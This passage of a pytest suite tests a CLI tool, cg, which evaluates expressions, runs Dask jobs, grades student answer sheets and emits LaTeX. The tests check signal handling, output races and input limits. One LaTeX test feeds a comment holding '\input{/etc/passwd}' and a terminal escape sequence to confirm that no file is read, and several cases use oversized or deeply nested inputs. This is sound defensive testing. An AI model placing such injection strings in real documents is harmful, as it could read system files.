    for signum in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(signum, signal.SIG_DFL)


def _cg(*args: str, **kwargs) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "cgcli", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, preexec_fn=_default_signals,
                            **kwargs)  # fmt: skip


def test_two_dask_runs_into_one_new_folder(tmp_path):
    """Whatever the timing, one run wins whole, the other exits 2 saying so, never mixed."""
    _dask_or_skip()
    import pyarrow.parquet as pq

    _parts(tmp_path / "one", 50_000, 1.0)
    _parts(tmp_path / "two", 50_000, -1.0)
    race = tmp_path / "race"
    runs = [
        _cg("eval", "2*x", "--points", str(tmp_path / data), "--engine", "dask", "--workers",
            "1", "--no-check", "-o", str(race))
        for data in ("one", "two")
    ]  # fmt: skip
    done = [(run.wait(timeout=300), run.stderr.read()) for run in runs]
    assert sorted(code for code, _ in done) == [0, 2], done
    loser = next(err for code, err in done if code == 2)
    assert loser in (
        f"cg: error: -o {race}: another run wrote its result to this folder while cg was "
        "working; it was left as that run wrote it, and this result was not written\n",
        f"cg: usage error: -o {race} already holds Parquet files (part.0.parquet, ...): choose "
        "an empty folder, so that old partitions do not mix with new ones\n",
    )
    signs = {float(pq.read_table(part).column("x")[1].as_py()) > 0 for part in race.iterdir()}
    assert len(signs) == 1 and sorted(p.name for p in race.iterdir()) == [
        "part.0.parquet",
        "part.1.parquet",
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["one", "race", "two"]


# --- 9. signals: one line, the shell's exit code, nothing left behind ------------------

SIGNALS = [
    ("SIGINT", signal.SIGINT, 130, "cg: interrupted\n"),
    ("SIGTERM", signal.SIGTERM, 143, "cg: interrupted by SIGTERM\n"),
    ("SIGHUP", signal.SIGHUP, 129, "cg: interrupted by SIGHUP\n"),
]
OUTPUTS = ["out.csv", "out.parquet", "out.arrow", "out.jsonl"]


def _children(pid: int) -> list[str]:
    """The processes ``pid`` started (Linux's /proc), such as a SymPy worker."""
    try:
        return Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        return []


def _wait_for(predicate, what: str, limit: float = 120.0) -> None:
    deadline = time.monotonic() + limit
    while not predicate():
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.02)


@pytest.mark.parametrize("out", OUTPUTS)
@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
def test_a_signal_during_an_output_file(tmp_path, out, signum, code, stderr):
    """cg reads the points from a pipe that stays open: it has written the first rows and
    waits for more when the signal comes, whatever the speed of the machine."""
    run = _cg("eval", "2*x", "--points", "-", "--chunk-rows", "1", "--no-check", "-o", out,
              stdin=subprocess.PIPE, cwd=tmp_path)  # fmt: skip
    run.stdin.write("x\n1\n2\n")
    run.stdin.flush()
    _wait_for(lambda: any(p.name.startswith(".cg-") for p in tmp_path.iterdir()), "the output")
    run.send_signal(signum)
    assert run.wait(timeout=120) == code
    assert run.stderr.read() == stderr
    assert list(tmp_path.iterdir()) == []  # no half-written file, no hidden temporary
    run.stdin.close()


@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
def test_a_signal_while_a_class_is_graded(tmp_path, signum, code, stderr):
    """Grading waits on a stalling formula (a SymPy worker) when the signal comes; the
    worker is stopped too."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "eve.txt").write_text(f"dz = {STALL}\n")
    run = _cg("check", *QZ, "--answers", str(folder), str(folder / "eve.txt"), "--summary",
              str(tmp_path / "g.csv"), cwd=tmp_path)  # fmt: skip
    _wait_for(lambda: _children(run.pid), "the SymPy worker")  # grading is under way
    workers = _children(run.pid)
    run.send_signal(signum)
    assert run.wait(timeout=120) == code
    assert run.stderr.read() == stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["class"]
    _wait_for(lambda: not any(_alive(int(pid)) for pid in workers), "the worker to be gone")


def test_a_check_worker_ends_with_cg_whatever_ends_it(tmp_path):
    """cg killed outright (SIGKILL: no handler runs) while its SymPy worker computes an
    answer whose arithmetic no handler could interrupt: the system ends the worker too.
    (A signal's clean stop could also race a worker being started.)"""
    script = tmp_path / "stall.py"
    script.write_text(
        "import os\n"
        "from cgcli.check.run import call_with_timeout\n"
        "call_with_timeout(pow, (10**9 + 1, 10**9), 600)\n"
    )
    run = subprocess.Popen([sys.executable, str(script)])
    _wait_for(lambda: _children(run.pid), "the worker")
    workers = _children(run.pid)
    run.send_signal(signal.SIGKILL)
    run.wait(timeout=60)
    try:
        _wait_for(lambda: not any(_alive(int(pid)) for pid in workers), "the worker to be gone")
    finally:  # never leave one computing, should this fail
        for pid in workers:
            with contextlib.suppress(OSError):
                os.kill(int(pid), signal.SIGKILL)


def _alive(pid: int) -> bool:
    """Whether a process runs (a zombie, ended but not yet reaped, does not)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "\nState:\tZ" not in status


@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
def test_a_signal_during_a_dask_run(tmp_path, signum, code, stderr):
    """Once a worker is writing a partition: one line, and no folder, file or process left.
    (Should the run finish first, its result must then be whole.)"""
    _dask_or_skip()
    _parts(tmp_path / "data", 2_000_000, 1.0, count=4)
    run = _cg("eval", "sin(x)*x", "--points", str(tmp_path / "data"), "--engine", "dask",
              "--workers", "1", "--no-check", "-o", "out", cwd=tmp_path)  # fmt: skip

    def writing() -> bool:
        return any(".partial" in str(p) for p in tmp_path.glob(".cg-*/*"))

    _wait_for(lambda: writing() or run.poll() is not None, "a partition being written")
    run.send_signal(signum)
    status = run.wait(timeout=120)
    if status == 0:  # the run ended before the signal: then whole
        assert len(list((tmp_path / "out").iterdir())) == 4
        return
    assert (status, run.stderr.read()) == (code, stderr)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


# --- 10. --exact within a budget ------------------------------------------------------


def test_a_dask_result_through_a_missing_folder_is_refused(tmp_path):
    """-o nox/../res: the system has no nox to go up from; cg neither makes nox nor writes
    res beside it."""
    _dask_or_skip()
    _parts(tmp_path / "data", 10, 1.0)
    run = _cg("eval", "2*x", "--points", "data", "--engine", "dask", "--workers", "1",
              "--no-check", "-o", "nox/../res", cwd=tmp_path)  # fmt: skip
    assert (run.wait(timeout=120), run.stderr.read()) == (
        2,
        "cg: usage error: -o nox/../res: the folder nox does not exist\n",
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


PAUSED_START = """
import pathlib, sys
import distributed
from cgcli.data import dask_engine

moment, marker = sys.argv[1], pathlib.Path(sys.argv[2])
real_cluster, real_client = distributed.LocalCluster, distributed.Client
real_tracker = dask_engine._quiet_resource_tracker

def pause(at):
    if at == moment:
        marker.write_text(at)
        sys.stdin.read()  # until cg is stopped: the test sends its signal now

def tracker():
    real_tracker()
    pause("resource tracker started")

def cluster(*args, **kwargs):
    pause("cluster about to start")
    started = real_cluster(*args, **kwargs)
    pause("cluster started")
    return started

def client(*args, **kwargs):
    connected = real_client(*args, **kwargs)
    pause("client connected")
    return connected

dask_engine._quiet_resource_tracker = tracker
distributed.LocalCluster, distributed.Client = cluster, client
from cgcli.cli import main
sys.argv = ["cg", *sys.argv[3:]]
main()
"""
START_MOMENTS = ["resource tracker started", "cluster about to start", "cluster started",
                 "client connected"]  # fmt: skip


@pytest.mark.parametrize("moment", START_MOMENTS)
def test_sigint_while_the_dask_cluster_starts(tmp_path, moment):
    """A SIGINT while the local cluster starts (its workers must not get a Ctrl-C) is not
    lost: cg stops at each moment of the start, held there until the signal is sent."""
    _dask_or_skip()
    _parts(tmp_path / "data", 10, 1.0)
    marker = tmp_path / "marker"
    run = subprocess.Popen(
        [sys.executable, "-c", PAUSED_START, moment, str(marker), "eval", "2*x", "--points",
         str(tmp_path / "data"), "--engine", "dask", "--workers", "1", "--no-check", "-o",
         "out"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        cwd=tmp_path, preexec_fn=_default_signals,
    )  # fmt: skip
    _wait_for(marker.exists, moment)
    run.send_signal(signal.SIGINT)
    try:
        code = run.wait(timeout=120)
    finally:
        run.stdin.close()
        run.kill()
    assert (code, run.stderr.read()) == (130, "cg: interrupted\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "marker"]


TOO_MANY_DIGITS = (
    "cg: usage error: --exact: an exact number has over 4,300 digits, more than Python "
    "writes as text (the exact numbers of this program grow too large); leave out --exact\n"
)


@pytest.mark.parametrize(
    "args",
    [
        ["eval", "x^1080", "x=1.0001", "--exact"],
        ["explain", "x^1080", "x=1.0001", "--exact"],
        ["check", "x^1080", "x=1.0001", "--exact", "--expect", "dx=1"],
    ],
    ids=["eval", "explain", "check"],
)
def test_an_exact_number_too_long_to_write_is_one_line(cg, args):
    """(10001/10000)^1080 has a numerator of 4,321 digits, past Python's int-to-text
    limit: it was an internal error (exit 4); x^1000 is still written whole."""
    result = cg(*args)
    assert (result.exit_code, result.stdout, result.stderr) == (2, "", TOO_MANY_DIGITS)
    shorter = cg("eval", "x^1000", "x=1.0001", "--exact", "--no-check")
    assert shorter.exit_code == 0 and "/1" + "0" * 4000 in shorter.stdout  # 10000^1000


def test_exact_arithmetic_that_would_not_finish(cg, stepping_clock):
    """On a clock of 1 s per read, the budget has run out at its first look."""
    result = cg("eval", "(1+1/10^9)^(10^9)", "--exact", "--exact-timeout", "1", "--no-check")
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        "cg: usage error: --exact: exact arithmetic did not finish within 1 s (the exact "
        "numbers of this program grow too large); give it more time with --exact-timeout "
        "SECONDS, or leave out --exact\n"
    )
    result = cg("explain", "(1+1/10^9)^(10^9)", "--exact", "--exact-timeout", "1")
    assert (result.exit_code, result.stderr.split(":")[:3]) == (
        2,
        ["cg", " usage error", " --exact"],
    )


def test_exact_timeout_in_the_library(stepping_clock):
    import cgcli
    from cgcli.core.errors import UsageError

    with pytest.raises(UsageError, match=r"did not finish within 0\.5 s"):
        cgcli.evaluate("(1+1/10^9)^(10^9)", exact=True, exact_timeout=0.5, check=False)
    stepping_clock.step = 0  # time stands still: within any budget
    result = cgcli.evaluate("x/3", {"x": 1}, exact=True, exact_timeout=60)
    assert result.shown_value(result.graph.output, 6) == "1/3 ≈ 0.333333"


# --- 12. LaTeX that compiles, however long ---------------------------------------------

LONG_LATEX = [
    ("grad of tan nested 50 deep", ["grad", "tan(" * 50 + "x" + ")" * 50]),
    ("its value too", ["grad", "tan(" * 50 + "x" + ")" * 50, "x=0.1"]),
    ("explain an exact 3000-digit number", ["explain", "(1+x)^1000", "x=1/1000", "--exact"]),
    ("eval an exact 3000-digit number", ["eval", "(1+x)^1000", "x=1/1000", "--exact"]),
    ("a name of 3000 letters", ["explain", "a" * 3000 + "*x + 1", "a" * 3000 + "=1", "x=2"]),
    ("a sheet whose program has no space", ["sheet", "*".join(["x"] * 3000), "x=1"]),
    ("a comment with TeX and symbols", ["sheet", "x*y # \\input{/etc/passwd} ^^5c ✓ \x1b]0;t\x07", "x=1", "y=2"]),
]  # fmt: skip


@pytest.mark.parametrize("args", [c[1] for c in LONG_LATEX], ids=[c[0] for c in LONG_LATEX])
def test_long_latex_compiles(cg, tmp_path, args):
    from test_latex import compile_latex

    result = cg(*args, "--format", "latex")
    assert result.exit_code == 0, result.stderr
    log = compile_latex(result.stdout, tmp_path)
    assert "passwd" not in log.split("(./doc.tex")[1]  # no file was read


# --- 13. a sheet that yields nothing, a key given twice ------------------------------

NOTHING = [
    ("Markdown of KEY = NUMBER lines", "s.md", "c = 3\nd = 2\n", "no answers found (a Markdown sheet holds its answers in a table: | node | value | grad |)"),
    ("an empty JSON object", "s.json", "{}", 'no answers found (a JSON sheet is an object such as {"p": 4, "dg/dx": -3})'),
    ("CSV with only a header", "s.csv", "node,value,grad\n", "no answers found (a CSV sheet holds its answers under a header such as node,value,grad)"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "why"), cases(NOTHING))
def test_a_sheet_with_nothing_to_grade_is_said_alone_and_in_a_class(
    cg, tmp_path, name, content, why
):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / name).write_text(content)
    (folder / "ok.txt").write_text("c = 3\n")
    message = f"nothing to grade in {folder / name}: {why}"
    alone = cg("check", P, *AT, "--answers", str(folder / name))
    assert (alone.exit_code, alone.stderr) == (2, f"cg: usage error: {message}\n")
    together = cg("check", P, *AT, "--answers", str(folder))
    assert together.exit_code == 2
    assert together.stderr == f"cg: usage error: {message}\n"
    assert (
        f"{folder / name}  not graded    {message}"
        in together.stdout.replace(f"{folder / name}: ", "")
        or message in together.stdout
    )


SHEET_MISTAKES = [
    ("a JSON key given twice", "s.json", '{"c": 4, "c": 3, "d": 2}', 1, "cg: warning: the key c is given twice; the first value is graded\n"),
    ("a CSV header naming node twice", "s.csv", "node,node\nc,3\n", 2, "cg: usage error: {path}: row 1: the header names the column node twice; give each column once\n"),
    ("a Markdown header naming value twice", "s.md", "| node | value | value |\n| --- | --- | --- |\n| c | 3 | 4 |\n", 2, "cg: usage error: {path}: line 1: the header names the column value twice; give each column once\n"),
    ("JSON nested too deep", "s.json", '{"c": ' + "[" * 100_000 + "]" * 100_000 + "}", 2, "cg: usage error: {path}: the JSON is nested too deeply to be a sheet\n"),
    ("more answers than the program has questions", "s.csv", "node,value\n" + "c,3\n" * 125, 2, "cg: usage error: {path}: 125 answers, more than a sheet of this program holds (at most 124: a value and a gradient per node, a few times over); it is not graded\n"),
    ("a million lines", "s.txt", "c = 3\n" * 1_000_000, 2, "cg: usage error: {path}: 1,000,000 lines, more than a sheet holds (at most 250,000)\n"),
    ("a million JSON answers", "s.json", json.dumps({f"k{i}": 1 for i in range(1_000_000)}), 2, "cg: usage error: {path}: 1,000,000 answers, more than a sheet holds (at most 250,000)\n"),
    ("a hundred unknown keys", "s.txt", "c = 3\n" + "".join(f"z{i} = 1\n" for i in range(100)), 0, "".join(f"cg: warning: line {i + 2}: answer z{i}: no node is called z{i} (nodes: a, b, c, d, e)\n" for i in range(20)) + "cg: warning: … and 80 more problems on this sheet\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "code", "stderr"), cases(SHEET_MISTAKES))
def test_a_sheet_never_graded_silently_wrong(cg, tmp_path, name, content, code, stderr):
    path = tmp_path / name
    path.write_text(content)
    result = cg("check", P, *AT, "--answers", str(path))
    assert (result.exit_code, result.stderr) == (code, stderr.replace("{path}", str(path)))


# --- 14. the points reader's header --------------------------------------------------


def test_a_header_line_over_16_mib_is_named_the_header(cg):
    result = cg("eval", "x*y", "--points", "-", input="x" * (17 * 1024 * 1024) + ",y\n1,2\n")
    assert (result.exit_code, result.stderr) == (
        2,
        "cg: error in the data: the header line is longer than 16,777,216 bytes\n",
    )


def test_the_gradebook_never_replaces_a_file_cg_did_not_write(cg, tmp_path):
    """--summary class/.late.csv replaced the student's hidden sheet (skipped, not read,
    so not protected as an input): only an earlier gradebook may be replaced."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "ada.txt").write_text("student: Ada\nc = 3\n")
    late = folder / ".late.csv"
    late.write_text("node,value\nc,3\n")
    result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(late))
    assert (result.exit_code, result.stderr) == (
        2,
        f"cg: usage error: --summary {late} exists and is no gradebook cg wrote: cg does not "
        "write over it; give a new name\n",
    )
    assert late.read_text() == "node,value\nc,3\n"
    book = folder / "grades.csv"
    for _ in range(2):  # its own gradebook, again and again
        assert cg("check", P, *AT, "--answers", str(folder), "--summary", str(book)).exit_code == 0
